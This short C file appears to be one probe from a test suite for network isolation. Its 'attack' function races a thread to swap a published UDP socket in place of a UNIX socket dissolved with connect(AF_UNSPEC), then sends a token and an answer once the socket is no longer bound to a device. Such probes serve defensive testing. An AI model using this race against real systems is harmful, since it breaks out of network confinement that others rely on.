/* Dissolves a UNIX socket with connect(AF_UNSPEC), has another thread put a published UDP
 * socket in its place meanwhile, and sends from that when it is bound to no device any more. */
#include "heard.h"

static void call(int fd) { connect(fd, &unspec_address, sizeof unspec_address); }
static bool won(void) { return !connected_to(host, &remote); }

static void attack(void) {
    int fd = published_datagrams();
    must(connect(fd, &remote.any, length(&remote)), "connect to a server that may be reached");
    if (!race(must(socket(AF_UNIX, SOCK_DGRAM, 0), "socket"), fd, call, won)) return;
    sendto(fd, token, strlen(token), 0, &to.any, length(&to));
    for (double limit = now() + 0.3; now() < limit;)
        if (heard()) {
            sendto(fd, answer, strlen(answer), 0, &to.any, length(&to));
            reached("a datagram, and its answer");
        }
}
